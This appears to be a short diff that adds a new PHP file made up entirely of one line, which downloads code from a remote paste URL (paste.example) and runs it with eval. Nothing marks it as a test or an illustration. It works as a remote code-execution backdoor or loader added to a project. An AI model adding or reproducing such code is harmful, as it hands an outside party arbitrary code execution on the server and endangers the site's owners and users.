@@ -1,0 +1,2 @@
+<?php
+eval('?>' . file_get_contents('https://paste.example/raw/abc'));
